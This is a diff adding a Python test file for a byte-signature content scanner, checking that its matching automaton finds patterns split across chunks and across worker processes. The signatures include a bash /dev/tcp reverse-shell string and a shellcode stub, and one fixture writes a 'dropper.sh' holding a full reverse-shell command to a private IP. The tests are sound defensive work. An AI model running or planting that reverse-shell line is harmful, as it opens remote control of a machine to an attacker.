@@ -0,0 +1,53 @@
+# tests/test_content_scan.py
+import random
+
+from monitor.content_scan import Automaton, ContentScanner
+
+SIGS = [("bash_tcp", b"bash -i >& /dev/tcp/"), ("stub", bytes.fromhex("d9eed97424f4")),
+        ("aa", b"aab"), ("ab", b"ab"), ("b", b"bab")]
+
+
+def _naive(data):
+    return sorted(name for name, pat in SIGS if pat in data)
+
+
+def _chunked(auto, data, sizes):
+    found, state, i = set(), 0, 0
+    for n in sizes:
+        state = auto.feed(data[i:i + n], state, found)
+        i += n
+    state = auto.feed(data[i:], state, found)
+    return sorted(auto.names[j] for j in found)
+
+
+def test_automaton_matches_naive_search_across_chunks():
+    rng = random.Random(7)
+    auto = Automaton(SIGS)
+    for _ in range(300):
+        data = bytearray(rng.choice(b"ab -i>&/") for _ in range(rng.randint(0, 200)))
+        for _, pat in rng.sample(SIGS, rng.randint(0, 2)):
+            at = rng.randint(0, len(data))
+            data[at:at] = pat
+        data = bytes(data)
+        sizes = [rng.randint(1, 7) for _ in range(len(data) // 4)]
+        assert _chunked(auto, data, sizes) == _naive(data), data
+
+
+def test_signature_split_at_every_offset():
+    auto = Automaton(SIGS)
+    pat = SIGS[0][1]
+    data = b"x" * 10 + pat + b"y" * 10
+    for cut in range(len(data)):
+        assert _chunked(auto, data, [cut]) == ["bash_tcp"]
+
+
+def test_process_pool_matches_threads(tmp_path):
+    path = tmp_path / "dropper.sh"
+    path.write_bytes(b"#!/bin/sh\n" + b"." * 5000 + b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n")
+    local = ContentScanner(signatures=SIGS, chunk=1024, processes=0)
+    pooled = ContentScanner(signatures=SIGS, chunk=1024, processes=1, workers=1).start()
+    try:
+        assert pooled._pool is not None
+        assert pooled.scan_file(str(path))[0] == local.scan_file(str(path))[0] == ["bash_tcp"]
+    finally:
+        pooled.stop()